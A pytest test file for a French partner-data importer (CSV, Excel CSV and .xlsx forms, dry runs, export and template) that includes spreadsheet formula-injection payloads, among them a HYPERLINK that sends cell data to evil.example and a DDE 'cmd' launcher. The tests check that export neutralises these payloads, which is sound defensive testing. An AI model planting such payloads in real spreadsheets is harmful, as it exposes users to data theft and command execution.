"""Partner data as coordinators keep it: the same tables saved as CSV UTF-8, as French Excel's CSV
(Windows-1252, `;`, CRLF, JJ/MM/AAAA, Oui/NON, decimal commas, stray spaces, empty trailing rows) and
as an `.xlsx` workbook give the same database; open types, the professions referential, the
preview (dry run), export → import and the template workbook.

Fixtures: tests/data/spreadsheet (UTF-8) and tests/data/spreadsheet_excel (the same saved by Excel);
the workbook is built here with openpyxl, with real date, number and boolean cells.
"""
import csv
import shutil
from datetime import date, datetime
from pathlib import Path
from typing import List

import pytest
import yaml
from openpyxl import Workbook, load_workbook
from sqlalchemy import select

from actions.discovery import ActionDiscovery
from actions.living import ActionMobility
from actions.partners import ActionPartners
from actions.professions import ActionProfession, ActionTraining
from bot import cli
from knowledge import db
from knowledge.partners import export, professions, spreadsheets, vocabulary
from knowledge.partners.importer import ImportFailed, import_folder
from knowledge.partners.models import Childcare, Housing, Opening
from tests.conftest import DATA_DIR, _forget_cached_names
from tests.test_actions import run, texts

UTF8_DIR = DATA_DIR / "spreadsheet"
EXCEL_DIR = DATA_DIR / "spreadsheet_excel"
NUMBERS = {"latitude", "longitude", "loyer_mensuel", "age_min_mois", "age_max_mois"}
DATES = {"date_publication", "date_limite", "date"}


def write_workbook(path: Path, folder: Path = UTF8_DIR, edit=None) -> Path:
    """The CSV files of `folder` as one workbook, cells typed as a spreadsheet types them; `edit`
    (sheet, row values) may change a row before it is written."""
    book = Workbook()
    book.active.title = "Notes"  # a sheet of the coordinator's own, ignored
    book.active.append(["Mis à jour par Claire le 2 novembre"])
    for file in spreadsheets.COLUMNS:
        with (folder / file).open(encoding="utf-8", newline="") as handle:
            rows = list(csv.reader(handle))
        sheet = book.create_sheet(spreadsheets.sheet_name(file).capitalize())  # « Offres »: any case
        sheet.append(rows[0])
        for row in rows[1:]:
            cells = []
            for name, value in zip(rows[0], row):
                if value and name in NUMBERS:
                    cells.append(float(value) if "." in value else int(value))
                elif value and name in DATES:
                    cells.append(datetime.strptime(value, "%Y-%m-%d"))
                elif name == "horaires_atypiques":
                    cells.append(value == "oui")
                else:
                    cells.append(f"  {value}" if name == "nom" else value)  # a stray space
            if edit:
                cells = edit(sheet.title, rows[0], cells)
            sheet.append(cells)
        sheet.append([None] * len(rows[0]))
        sheet.append([""] * len(rows[0]))  # an empty trailing row
    book.save(path)
    return path


def metiers_only(tmp_path: Path) -> Path:
    """A folder with the fixture's metiers.yml alone (a workbook holds the tables, not metiers.yml)."""
    folder = tmp_path / "metiers"
    folder.mkdir(exist_ok=True)
    shutil.copy(UTF8_DIR / "metiers.yml", folder / "metiers.yml")
    return folder


def import_form(form: str, tmp_path: Path):
    if form == "xlsx":
        import_folder(metiers_only(tmp_path))
        return import_folder(write_workbook(tmp_path / "partenaires.xlsx"))
    return import_folder(UTF8_DIR if form == "csv-utf8" else EXCEL_DIR)


def use_sqlite(path: Path, monkeypatch) -> None:
    monkeypatch.setenv("DATABASE_URL", f"sqlite:///{path}")
    db.dispose()
    _forget_cached_names()


FORMS = ["csv-utf8", "csv-excel", "xlsx"]


def test_every_form_gives_the_same_database_table_by_table(tmp_path, monkeypatch, table_snapshot):
    snapshots = {}
    for form in FORMS:
        use_sqlite(tmp_path / f"{form}.db", monkeypatch)
        report = import_form(form, tmp_path)
        assert report.created["offres.csv"] == 4 and report.rows["garde_enfants.csv"] == 2, form
        with db.session_scope() as session:  # texts holding the separator, quoted, are read whole
            assert session.get(Opening, "of_ide_nuit").description == "Nuits en 12 h, 1 week-end sur 3.", form
            assert session.get(Opening, "of_kine").description == "Plateau technique neuf ; équipe de 4 kinés.", form
            assert session.get(Housing, "lg_partage").description == "Trois chambres, cuisine commune.", form
        snapshots[form] = table_snapshot()
    db.dispose()

    assert snapshots["csv-utf8"]["openings"], "the fixture was imported"
    for table, rows in snapshots["csv-utf8"].items():
        assert snapshots["csv-excel"][table] == rows, f"Excel CSV, table {table}"
        assert snapshots["xlsx"][table] == rows, f"xlsx, table {table}"


@pytest.mark.parametrize("first", FORMS)
def test_each_form_reimported_over_another_changes_nothing(database_url, tmp_path, table_snapshot, first):
    """On SQLite and PostgreSQL: whichever form came first, the others are the same data."""
    import_form(first, tmp_path)
    before = table_snapshot()
    for form in FORMS:
        report = import_form(form, tmp_path)
        assert (sum(report.created.values()), sum(report.updated.values())) == (0, 0), form
    assert table_snapshot() == before


def test_excel_values_are_typed_like_the_utf8_ones(database_url):
    import_folder(EXCEL_DIR)
    with db.session_scope() as session:
        opening = session.get(Opening, "of_ide_nuit")
        assert (opening.contract, opening.published_on, opening.closes_on) == ("cdi", date(2026, 8, 20),
                                                                             date(2099, 6, 30))
        assert opening.commune.name == "Chauvé" and opening.commune.latitude == 47.1514
        assert opening.structure.name == "EHPAD Le Clos Fleuri"  # the spaces around it are gone


@pytest.mark.parametrize("folder, line, separator", [
    (UTF8_DIR, 'lg_studio,Studio du bourg,studio,Chauvé,tout public,3 à 12 mois,450,02 40 00 10 11,'
               'Au-dessus de la mairie, côté cour.', ","),
    (EXCEL_DIR, 'lg_studio; Studio du bourg ;studio;Chauvé;tout public;3 à 12 mois;450;02 40 00 10 11;'
                'Au-dessus de la mairie; côté cour.', ";"),
], ids=["csv-utf8", "csv-excel"])
def test_an_unquoted_separator_in_a_text_refuses_the_row(database_url, tmp_path, table_snapshot, folder, line,
                                                           separator):
    copy = tmp_path / "unquoted"
    shutil.copytree(folder, copy)
    path = copy / "logements.csv"
    encoding = "utf-8" if folder == UTF8_DIR else "cp1252"
    lines = path.read_bytes().decode(encoding).split("\n")
    lines[2] = line + lines[2][len(lines[2].rstrip("\r")):]  # the studio's row, its line end kept
    path.write_bytes("\n".join(lines).encode(encoding))

    with pytest.raises(ImportFailed) as failure:
        import_folder(copy)

    assert [str(p) for p in failure.value.problems] == [
        f"logements.csv:3: -: cellules en trop (1 de plus que les en-têtes) : un texte contenant le séparateur "
        f"« {separator} » doit être entre guillemets (\"…\"), comme l'écrivent Excel et LibreOffice"]
    assert all(rows == [] for rows in table_snapshot().values())


def test_empty_cells_after_the_last_column_are_fine(database_url, tmp_path):
    copy = tmp_path / "trailing"
    shutil.copytree(UTF8_DIR, copy)
    path = copy / "evenements.csv"
    path.write_text(path.read_text(encoding="utf-8").replace("Une trentaine d'employeurs.,\n",
                                                             "Une trentaine d'employeurs.,,,\n"), encoding="utf-8")

    report = import_folder(copy)

    assert report.created["evenements.csv"] == 2


def test_a_filled_cell_right_of_a_workbooks_columns_is_refused(database_url, tmp_path, table_snapshot):
    def note(sheet, header, cells):
        if sheet == "Logements" and cells[0] == "lg_studio":
            cells += [None, "à relancer"]  # two columns right of the last one, one filled
        return cells

    with pytest.raises(ImportFailed) as failure:
        import_folder(write_workbook(tmp_path / "note.xlsx", edit=note))

    assert [str(p) for p in failure.value.problems] == [
        "feuille Logements:3: -: cellules remplies à droite de la dernière colonne nommée (1) : "
        "donnez un en-tête à leur colonne ou videz-les"]
    assert all(rows == [] for rows in table_snapshot().values())


# (as typed, as a spreadsheet keeps it in a cell, horaires_atypiques, nuit): French Excel turns VRAI/FAUX into
# boolean cells and 1/0 into numbers; an empty horaires_atypiques is « non », an empty nuit is « not said ».
BOOLEAN_CELLS = [("x", "x", True, True), ("X", "X", True, True), ("1", 1, True, True), ("0", 0, False, False),
                 ("vrai", True, True, True), ("Faux", False, False, False), ("oui", "oui", True, True),
                 ("NON", "NON", False, False), ("", None, False, None)]


def _childcare_with_night(tmp_path: Path, typed: str) -> Path:
    """The UTF-8 fixture with the optional nuit column, the crèche's two booleans written `typed`."""
    folder = tmp_path / "booleans"
    shutil.copytree(UTF8_DIR, folder)
    path = folder / "garde_enfants.csv"
    with path.open(encoding="utf-8", newline="") as handle:
        rows = list(csv.reader(handle))
    rows[0].append("nuit")
    for row in rows[1:]:
        row.append("oui")
        if row[0] == "ge_creche":
            row[rows[0].index("horaires_atypiques")] = row[-1] = typed
    with path.open("w", encoding="utf-8", newline="") as handle:
        csv.writer(handle).writerows(rows)
    return folder


@pytest.mark.parametrize("form", ["csv", "xlsx"])
@pytest.mark.parametrize("typed, cell, atypical, night", BOOLEAN_CELLS, ids=[repr(c[0]) for c in BOOLEAN_CELLS])
def test_booleans_as_coordinators_type_them(tmp_path, monkeypatch, form, typed, cell, atypical, night):
    use_sqlite(tmp_path / "booleans.db", monkeypatch)
    folder = _childcare_with_night(tmp_path, typed)

    def typed_cells(sheet, header, cells):
        if sheet == "Garde_enfants" and cells[0] == "ge_creche":
            cells[header.index("horaires_atypiques")] = cells[header.index("nuit")] = cell
        return cells

    if form == "csv":
        import_folder(folder)
    else:
        import_folder(metiers_only(tmp_path))
        import_folder(write_workbook(tmp_path / "booleens.xlsx", folder=folder, edit=typed_cells))

    with db.session_scope() as session:
        creche, relais = session.get(Childcare, "ge_creche"), session.get(Childcare, "ge_nounou")
        assert (creche.atypical_hours, creche.night) == (atypical, night)
        assert (relais.atypical_hours, relais.night) == (True, True)
    db.dispose()


# -- what the published format allows --------------------------------------------------------------------
def test_open_types_are_kept_as_written_and_listed_as_notices(database_url):
    report = import_folder(UTF8_DIR)

    assert "structures.csv : types non répertoriés, gardés tels quels : « FAM » (1), « clinique » (1)" in report.notices
    assert "logements.csv : types non répertoriés, gardés tels quels : « maison_partagee » (1)" in report.notices
    assert "evenements.csv : types non répertoriés, gardés tels quels : « cafe_metiers » (1)" in report.notices
    assert any("métier repris du référentiel des métiers : kinesitherapeute" in n for n in report.notices)
    with db.session_scope() as session:
        from knowledge.partners.models import Structure
        # A known label written in words is its code; an unknown type is kept as written.
        assert session.get(Structure, "msp_chauve").type == "msp"
        assert session.get(Structure, "fam_stpere").type == "FAM"


async def test_open_types_appear_in_the_assistants_answers_as_written(database_url, make_tracker):
    import_folder(UTF8_DIR)
    _forget_cached_names()

    dispatcher, _ = await run(ActionPartners, make_tracker(text="c'est qui les partenaires ?", intent="ask_partners"))
    assert "clinique (1)" in texts(dispatcher) and "FAM (1)" in texts(dispatcher)
    assert "maison de santé (1)" in texts(dispatcher) and "EHPAD (1)" in texts(dispatcher)

    dispatcher, _ = await run(ActionMobility, make_tracker(slots={"commune": "Paimbœuf"}))
    assert "Navette des soignants" in texts(dispatcher) and "navette solidaire" in texts(dispatcher)

    dispatcher, _ = await run(ActionDiscovery, make_tracker())
    # An unknown type written without accents is shown with them (vocabulary.yml, section accents).
    assert "café métiers, le" in texts(dispatcher) and "forum des métiers, le" in texts(dispatcher)


@pytest.mark.parametrize("written, shown", [
    ("maison_partagee", "maison partagée"), ("cafe_metiers", "café métiers"),
    ("Creche_associative", "Crèche associative"), ("centre medico-social", "centre médico-social"),
    ("residence_etudiante", "résidence étudiante"), ("FEDERATION", "FEDERATION"), ("SMR", "SMR"),
    ("Maison partagée", "Maison partagée"), ("navette_solidaire", "navette solidaire"),
])
def test_open_types_written_without_accents_are_shown_with_them(written, shown):
    assert vocabulary.humanise(written) == shown
    assert vocabulary.type_label("housing_types", written) == shown


async def test_plain_text_training_and_bridges_are_shown_as_written(database_url, make_tracker):
    import_folder(UTF8_DIR)

    dispatcher, _ = await run(ActionTraining, make_tracker(slots={"profession": "infirmier"}))

    shown = texts(dispatcher)
    assert "Trois ans en IFSI après Parcoursup, ou sur concours en reconversion." in shown
    assert "• Les aides-soignant·es peuvent entrer en IFSI après trois ans d'exercice." in shown


def test_an_opening_may_name_any_profession_of_the_referential(database_url):
    import_folder(UTF8_DIR)
    with db.session_scope() as session:
        kine = session.get(Opening, "of_kine").profession
        assert (kine.code, kine.label) == ("kinesitherapeute", "Masseur·se-kinésithérapeute")
        assert "kine" in kine.synonyms


def test_the_referential_holds_every_profession_the_nlu_returns():
    text = (Path(__file__).parents[1] / "nlu" / "entities.yml").read_text(encoding="utf-8")
    section = text.split("# --- profession", 1)[1].split("\n# ---", 1)[0]
    canonical = {entry["synonym"] for entry in yaml.safe_load("nlu:\n" + section.split("\n", 1)[1])["nlu"]}
    lookups = (Path(__file__).parents[1] / "nlu" / "lookups" / "professions.yml").read_text(encoding="utf-8")

    assert len(canonical) >= 12 and canonical <= set(professions.referential())
    labels = {code: [e["libelle"], *e["synonymes"]] for code, e in professions.referential().items()}
    unmatched = [line[6:] for line in lookups.splitlines() if line.startswith("    - ")
                 and not professions.code_for(line[6:], labels)]
    assert len(unmatched) < 0.5 * lookups.count("\n    - "), unmatched  # most lookup forms name a code


def test_every_profession_of_the_referential_has_a_one_line_description():
    for code, entry in professions.referential().items():
        description = entry["description"]
        assert description and "\n" not in description and len(description) <= 140, code
        assert description[0].isupper() and description.endswith("."), code


async def test_a_profession_taken_from_the_referential_is_described(database_url, make_tracker):
    import_folder(UTF8_DIR)  # no metiers.yml entry for kinesitherapeute: taken from the referential
    _forget_cached_names()

    dispatcher, _ = await run(ActionProfession, make_tracker(slots={"profession": "kinesitherapeute"}))

    first = dispatcher.messages[0]["text"].split("\n")[0]
    assert first == ("Masseur·se-kinésithérapeute : Rééduque les patient·es par le mouvement et des techniques "
                     "manuelles, en libéral, en SMR ou en EHPAD.")


async def test_a_profession_described_nowhere_is_named_without_a_dangling_colon(database_url, tmp_path, make_tracker):
    folder = tmp_path / "metiers"
    folder.mkdir()
    (folder / "metiers.yml").write_text("- code: brancardier\n  libelle: Brancardier·ère\n"
                                        "  salaire: environ 1 800 € nets par mois\n", encoding="utf-8")
    import_folder(folder)
    _forget_cached_names()

    dispatcher, _ = await run(ActionProfession, make_tracker(slots={"profession": "brancardier"}))

    assert dispatcher.messages[0]["text"].split("\n")[0] == "Brancardier·ère"
    assert " :\n" not in texts(dispatcher) and "1 800 €" in texts(dispatcher)


def test_a_typo_in_a_workbook_names_the_sheet_row_and_the_closest_code(database_url, tmp_path, table_snapshot):
    def typo(sheet, header, cells):
        if sheet == "Offres" and cells[0] == "of_sf":
            cells[header.index("metier")] = "sage_femmes"
        return cells

    import_folder(metiers_only(tmp_path))
    before = table_snapshot()
    with pytest.raises(ImportFailed) as failure:
        import_folder(write_workbook(tmp_path / "typo.xlsx", edit=typo))

    assert [str(p) for p in failure.value.problems] == [
        "feuille Offres:3: metier: métier inconnu « sage_femmes » (codes proches : sage_femme)"]
    assert table_snapshot() == before


def test_a_formula_in_a_workbook_is_refused(database_url, tmp_path, table_snapshot):
    def formula(sheet, header, cells):
        if sheet == "Logements" and cells[0] == "lg_studio":
            cells[header.index("contact")] = '=HYPERLINK("http://x.test","Cliquez")'
        return cells

    with pytest.raises(ImportFailed) as failure:
        import_folder(write_workbook(tmp_path / "formula.xlsx", edit=formula))

    [problem] = failure.value.problems
    assert (problem.file, problem.line, problem.column) == ("feuille Logements", 3, "contact")
    assert "formule de tableur, refusée" in problem.reason
    assert all(rows == [] for rows in table_snapshot().values())


def test_ods_and_unreadable_workbooks_get_a_french_message(database_url, tmp_path):
    (tmp_path / "partenaires.ods").write_bytes(b"PK\x03\x04")
    (tmp_path / "abime.xlsx").write_bytes(b"pas un classeur")

    with pytest.raises(ImportFailed) as ods:
        import_folder(tmp_path / "partenaires.ods")
    with pytest.raises(ImportFailed) as broken:
        import_folder(tmp_path / "abime.xlsx")

    assert "format .ods non lu" in str(ods.value) and "Excel 2007-365 (.xlsx)" in str(ods.value)
    assert str(broken.value).startswith("abime.xlsx:0: -: classeur illisible")


# -- preview ---------------------------------------------------------------------------------------------
def _edited_copy(tmp_path: Path) -> Path:
    folder = tmp_path / "edited"
    shutil.copytree(UTF8_DIR, folder)
    path = folder / "offres.csv"
    text = path.read_text(encoding="utf-8")
    text = text.replace("Sage-femme de consultation,cdd,temps_partiel,Paimbœuf,2026-10-15,,",
                        "Sage-femme de consultation,cdd,temps_partiel,Paimbœuf,2026-10-15,2026-10-31,")
    text = text.replace("Kinésithérapeute en rééducation,cdi", "Kinésithérapeute (rééducation),cdi")
    text += "of_new,ehpad_chauve,aide_soignant,Aide-soignant·e de jour,cdi,temps_plein,Chauvé,2026-11-20,,,\n"
    path.write_text(text, encoding="utf-8")
    return folder


def test_a_dry_run_shows_each_change_and_writes_nothing(database_url, tmp_path, table_snapshot):
    import_folder(UTF8_DIR)
    before = table_snapshot()

    report = import_folder(_edited_copy(tmp_path), dry_run=True)

    assert table_snapshot() == before
    assert (report.created["offres.csv"], report.updated["offres.csv"], report.unchanged("offres.csv")) == (1, 2, 2)
    changes = {c.ident: c for c in report.changes["offres.csv"]}
    assert changes["of_new"].new
    assert changes["of_kine"].fields == (("intitule", "Kinésithérapeute en rééducation",
                                          "Kinésithérapeute (rééducation)"),)
    assert changes["of_sf"].fields == (("date_limite", "", "2026-10-31"),)
    assert report.closing == ["of_sf"] and report.reopening == []
    assert report.unchanged("structures.csv") == 4


def test_the_dry_run_command_prints_the_preview(database_url, tmp_path, table_snapshot, capsys):
    import_folder(UTF8_DIR)
    before = table_snapshot()

    assert cli.main(["import", "--dry-run", str(_edited_copy(tmp_path))]) == 0

    out = capsys.readouterr().out
    assert "rien n'a été écrit" in out
    assert "offres.csv : 5 lignes (1 nouvelles, 2 modifiées)" in out
    assert "offres.csv : offres qui se clôturent : of_sf" in out
    assert "      intitule : « Kinésithérapeute en rééducation » → « Kinésithérapeute (rééducation) »" in out
    assert table_snapshot() == before


def test_the_dry_run_of_a_workbook_names_its_sheets(database_url, tmp_path, table_snapshot, capsys):
    import_folder(metiers_only(tmp_path))
    import_folder(UTF8_DIR)
    before = table_snapshot()

    def retitle(sheet, header, cells):
        if sheet == "Offres" and cells[0] == "of_kine":
            cells[header.index("intitule")] = "Kinésithérapeute (rééducation)"
        return cells

    assert cli.main(["import", "--dry-run", str(write_workbook(tmp_path / "partenaires.xlsx", edit=retitle))]) == 0

    out = capsys.readouterr().out
    assert "feuille Offres : 4 lignes (0 nouvelles, 1 modifiées)" in out
    assert "  feuille Offres : of_kine modifiée" in out
    assert "offres.csv" not in out
    assert table_snapshot() == before


def test_a_reopened_opening_is_announced(database_url, tmp_path):
    folder = _edited_copy(tmp_path)
    import_folder(folder)  # of_sf closed on 2026-10-31

    report = import_folder(UTF8_DIR, dry_run=True)

    assert report.reopening == ["of_sf"]


# -- export, template ------------------------------------------------------------------------------------
def _with_formula_like_text(tmp_path: Path) -> Path:
    """The fixture with text a spreadsheet would take for a formula, written with the apostrophe."""
    folder = tmp_path / "quoted"
    shutil.copytree(UTF8_DIR, folder)
    path = folder / "logements.csv"
    path.write_text(path.read_text(encoding="utf-8").replace("Au-dessus de la mairie.", "'=1+1 (pas une formule)"),
                    encoding="utf-8")
    return folder


@pytest.mark.parametrize("as_workbook", [False, True], ids=["csv", "xlsx"])
def test_export_then_import_changes_nothing(database_url, tmp_path, table_snapshot, as_workbook):
    import_folder(_with_formula_like_text(tmp_path))
    before = table_snapshot()
    out = tmp_path / "export"

    cli.main(["export", str(out)] + (["--xlsx"] if as_workbook else []))
    report = import_folder(out / export.WORKBOOK_FILE if as_workbook else out)

    assert (sum(report.created.values()), sum(report.updated.values())) == (0, 0)
    assert table_snapshot() == before
    if as_workbook:
        sheet = load_workbook(out / export.WORKBOOK_FILE)["logements"]
        cell = next(c for c in sheet["I"] if str(c.value).endswith("(pas une formule)"))
        assert (cell.value, cell.data_type) == ("'=1+1 (pas une formule)", "s")
    else:
        assert "'=1+1 (pas une formule)" in (out / "logements.csv").read_text(encoding="utf-8-sig")
        assert (out / "metiers.yml").is_file()


@pytest.mark.parametrize("as_workbook", [False, True], ids=["csv", "xlsx"])
def test_an_export_into_an_empty_database_rebuilds_it(tmp_path, monkeypatch, table_snapshot, as_workbook):
    use_sqlite(tmp_path / "first.db", monkeypatch)
    import_folder(UTF8_DIR)
    cli.main(["export", str(tmp_path / "export")] + (["--xlsx"] if as_workbook else []))
    first = table_snapshot()

    use_sqlite(tmp_path / "second.db", monkeypatch)
    # The workbook's professions come from the metiers.yml written beside it.
    import_folder(tmp_path / "export" / export.WORKBOOK_FILE if as_workbook else tmp_path / "export")

    assert table_snapshot() == first
    db.dispose()


def test_the_template_has_headers_and_drop_down_lists(database_url, tmp_path):
    import_folder(UTF8_DIR)
    assert cli.main(["template", str(tmp_path / "modele.xlsx")]) == 0

    book = load_workbook(tmp_path / "modele.xlsx")
    assert book.sheetnames == [*(spreadsheets.sheet_name(f) for f in spreadsheets.COLUMNS), export.LISTS_SHEET]
    offres = book["offres"]
    assert [c.value for c in offres[1]] == spreadsheets.COLUMNS["offres.csv"] and offres.max_row == 1
    lists = {c[0].value: [x.value for x in c[1:] if x.value] for c in book[export.LISTS_SHEET].iter_cols()}
    assert set(professions.referential()) <= set(lists["metier"])
    assert lists["contrat"][:2] == ["cdi", "cdd"] and "nuit" in lists["temps_travail"]
    assert lists["commune"] == ["Paimbœuf", "Saint-Père-en-Retz", "Chauvé"]
    validations = {str(v.sqref): v.formula1 for v in offres.data_validations.dataValidation}
    # A profession or a commune typed outside the list is warned about, not blocked: the import accepts
    # one added later (metiers.yml, communes.csv). Contracts and work times are fixed: stopped.
    styles = {str(v.sqref): (v.errorStyle, v.showErrorMessage, v.error) for v in offres.data_validations.dataValidation}
    assert styles["C2:C1000"] == ("warning", True, "Cette valeur n'est pas dans la liste des métiers (feuille « "
                                                   "listes »). Gardez-la si elle est nouvelle : l'import la vérifiera.")
    assert styles["G2:G1000"][:2] == ("warning", True) and "liste des communes" in styles["G2:G1000"][2]
    assert styles["E2:E1000"][:2] == styles["F2:F1000"][:2] == ("stop", True)
    assert validations == {"C2:C1000": "=listes!$A$2:$A$" + str(len(lists["metier"]) + 1),
                           "E2:E1000": "=listes!$B$2:$B$8", "F2:F1000": "=listes!$C$2:$C$4",
                           "G2:G1000": "=listes!$D$2:$D$4"}
    # The template imports as nothing: no row, no problem.
    report = import_folder(tmp_path / "modele.xlsx")
    assert sum(report.rows.values()) == 0


def test_headers_in_capitals_and_numbers_or_phones_with_signs_are_data(database_url, tmp_path):
    folder = tmp_path / "capitals"
    shutil.copytree(UTF8_DIR, folder)
    path = folder / "communes.csv"
    lines = path.read_text(encoding="utf-8").split("\n", 1)
    path.write_text("Nom,Code_Postal,EPCI,Latitude,Longitude\n" + lines[1], encoding="utf-8")

    import_folder(folder)

    with db.session_scope() as session:
        from knowledge.partners.models import Commune, Structure
        assert session.get(Structure, "clin_paimboeuf").phone == "+33 2 40 00 10 01"
        assert session.query(Commune).filter_by(name="Paimbœuf").one().longitude == -2.03


# Text a spreadsheet would run as a formula in the shapes the weaker rule (`=`, `+`, `-`, `@` first) let
# through, as a coordinator may have typed it in the console.
# (No carriage return: a workbook's XML reads it back as a line feed, formula or not.)
FORMULA_SHAPES = ["\t=1+1", '  =HYPERLINK("https://evil.example/?d="&A1)', "＝1+1", "  ＠SUM(1)",
                  "+33 cmd|' /C calc'!A0"]


def _exported_cells(out: Path, as_workbook: bool) -> List[str]:
    if as_workbook:
        sheet = load_workbook(out / export.WORKBOOK_FILE)["offres"]
        return [str(cell.value) for row in sheet.iter_rows(min_row=2) for cell in row if cell.value is not None]
    with open(out / "offres.csv", encoding="utf-8-sig", newline="") as file:
        return [cell for row in list(csv.reader(file))[1:] for cell in row]


@pytest.mark.parametrize("as_workbook", [False, True], ids=["csv", "xlsx"])
def test_formula_shapes_are_exported_inert_and_imported_back_unchanged(database_url, tmp_path, table_snapshot,
                                                                       as_workbook):
    import_folder(UTF8_DIR)
    with db.session_scope() as session:
        openings = session.scalars(select(Opening).order_by(Opening.id)).all()
        for opening, value in zip(openings, FORMULA_SHAPES):
            opening.description = value
        openings[0].title = FORMULA_SHAPES[-1]
    before = table_snapshot()
    out = tmp_path / "export"

    cli.main(["export", str(out)] + (["--xlsx"] if as_workbook else []))
    cells = _exported_cells(out, as_workbook)
    for value in FORMULA_SHAPES[:len(openings)] + [FORMULA_SHAPES[-1]]:
        assert "'" + value in cells and value not in cells, value
    report = import_folder(out / export.WORKBOOK_FILE if as_workbook else out)

    assert (sum(report.created.values()), sum(report.updated.values())) == (0, 0)
    assert table_snapshot() == before
